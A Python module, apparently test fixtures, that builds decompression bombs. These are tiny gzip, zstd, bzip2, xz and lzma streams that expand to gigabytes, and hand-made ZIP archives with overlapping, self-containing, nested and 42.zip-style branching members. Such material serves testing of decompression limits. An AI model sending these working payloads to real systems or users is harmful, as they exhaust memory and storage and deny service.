"""Compressed streams and ZIP parts that are small, and large when they are unpacked."""

from __future__ import annotations

import bz2
import functools
import gzip
import lzma
import struct
import zlib

MEGABYTE = 1 << 20


@functools.cache
def deflated(unit: bytes, times: int) -> bytes:
    """Bare deflate of `unit` as often as asked, made without making it."""
    encoder = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = encoder.compress(unit) + encoder.flush(zlib.Z_FULL_FLUSH)
    return block * times + encoder.flush(zlib.Z_FINISH)


@functools.cache
def zeros(megabytes: int) -> bytes:
    """Bare deflate of so many megabytes of zero bytes."""
    return deflated(bytes(MEGABYTE), megabytes)


def gzip_of(body: bytes) -> bytes:
    """A gzip member around bare deflate; its CRC-32 and size are wrong."""
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + body + bytes(8)


def zlib_of(body: bytes) -> bytes:
    """A zlib stream around bare deflate; its digest is wrong."""
    return b"\x78\x9c" + body + bytes(4)


def zstd_zeros(blocks: int) -> bytes:
    """A zstd frame of blocks of 128 KiB, four bytes each."""
    frame = b"\x28\xb5\x2f\xfd" + b"\x00" + b"\x58"  # window of 2 MiB
    block = (1 << 1 | (128 << 10) << 3).to_bytes(3, "little") + b"\0"
    return frame + block * blocks + (1 | 1 << 1 | 1 << 3).to_bytes(3, "little") + b"\0"


def zstd_window(log: int) -> bytes:
    """A zstd frame that wants a window of `2 ** log` bytes."""
    return b"\x28\xb5\x2f\xfd\x00" + bytes(((log - 10) << 3,)) + b"\x01\x00\x00"


def bzip2_zeros(streams: int) -> bytes:
    """Streams of 40 MB of zero bytes each, in some 40 bytes."""
    return _bzip2_unit() * streams


@functools.cache
def _bzip2_unit() -> bytes:
    return bz2.compress(bytes(40 * MEGABYTE), 9)


@functools.cache
def _xz_unit() -> bytes:
    return lzma.compress(bytes(64 * MEGABYTE), preset=0)


def xz_zeros(streams: int) -> bytes:
    """Streams of 64 MB of zero bytes each."""
    return _xz_unit() * streams


def lzma_alone(dictionary: int) -> bytes:
    """An .lzma header that wants a dictionary of this size, and a little data."""
    found = lzma.compress(b"x" * 100, lzma.FORMAT_ALONE)
    return found[:1] + dictionary.to_bytes(4, "little") + found[5:]


def nested_gzip(depth: int, core: bytes = b"N.") -> bytes:
    """gzip in gzip in gzip ..."""
    for _ in range(depth):
        core = gzip.compress(core, 9, mtime=0)
    return core


# ZIP by hand: headers that say what they are told to say.


def local(name: bytes, data: bytes = b"", **said: int | bytes) -> bytes:
    """A local header and its data."""
    crc, size, packed, method, flags, extra = _said(data, said)
    header = struct.pack(
        "<4s5H3L2H", b"PK\x03\x04", 20, flags, method, 0, 33, crc, packed, size,
        len(name), len(extra),
    )  # fmt: skip
    return header + name + extra + data


def central(name: bytes, offset: int, data: bytes = b"", **said: int | bytes) -> bytes:
    """A header of the directory."""
    crc, size, packed, method, flags, extra = _said(data, said)
    header = struct.pack(
        "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, flags, method, 0, 33, crc, packed, size,
        len(name), len(extra), 0, 0, 0, 0, offset,
    )  # fmt: skip
    return header + name + extra


def _said(data: bytes, said: dict[str, int | bytes]) -> tuple[int, int, int, int, int, bytes]:
    extra = said.get("extra", b"")
    if not isinstance(extra, bytes):
        raise TypeError("extra is bytes")
    numbers = {key: value for key, value in said.items() if isinstance(value, int)}
    return (
        numbers.get("crc", zlib.crc32(data)),
        numbers.get("size", len(data)),
        numbers.get("packed", len(data)),
        numbers.get("method", 0),
        numbers.get("flags", 0),
        extra,
    )


def end(count: int, size: int, offset: int, comment: bytes = b"") -> bytes:
    """An end record."""
    return struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count & 0xFFFF, count & 0xFFFF, size, offset, len(comment)
    ) + comment  # fmt: skip


def archive(*members: tuple[bytes, bytes], comment: bytes = b"") -> bytes:
    """An honest archive of stored members."""
    body = directory = b""
    for name, data in members:
        directory += central(name, len(body), data)
        body += local(name, data)
    return body + directory + end(len(members), len(directory), len(body), comment)


def compressed_member(name: bytes, packed: bytes, size: int, method: int = 8) -> bytes:
    """An archive of one member that is compressed already."""
    said: dict[str, int | bytes] = {"size": size, "method": method, "crc": 0}
    directory = central(name, 0, packed, **said)
    body = local(name, packed, **said)
    return body + directory + end(1, len(directory), len(body))


def overlapping(count: int, megabytes: int) -> bytes:
    """Many directory headers for the one kernel (Fifield, A better zip bomb, 2019)."""
    kernel = zeros(megabytes)
    said: dict[str, int | bytes] = {"size": megabytes * MEGABYTE, "method": 8, "crc": 0}
    body = local(b"0", kernel, **said)
    directory = b"".join(central(str(index).encode(), 0, kernel, **said) for index in range(count))
    return body + directory + end(count, len(directory), len(body))


def onion(count: int) -> bytes:
    """Each member is all of the file behind its own header, so each holds all later ones."""
    names = [f"{index:03}".encode() for index in range(count)]
    header = len(local(b"000"))
    length = count * header + count * len(central(b"000", 0)) + len(end(0, 0, 0))
    body = directory = b""
    for index, name in enumerate(names):
        size = length - (index + 1) * header
        said: dict[str, int | bytes] = {"size": size, "packed": size, "crc": 0}
        body += local(name, b"", **said)
        directory += central(name, index * header, b"", **said)
    return body + directory + end(count, len(directory), len(body))


def nested_zip(depth: int, core: bytes = b"N.") -> bytes:
    """ZIP in ZIP in ZIP ..."""
    for level in range(depth):
        core = archive((f"{level}.zip".encode(), core))
    return core


def branching_zip(depth: int, width: int) -> bytes:
    """Each archive holds the next one `width` times (42.zip)."""
    core = compressed_member(b"zeros", zeros(64), 64 * MEGABYTE)
    for _ in range(depth):
        core = archive(*((str(index).encode(), core) for index in range(width)))
        packed = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        data = packed.compress(core) + packed.flush()
        core = compressed_member(b"next.zip", data, len(core))
    return core
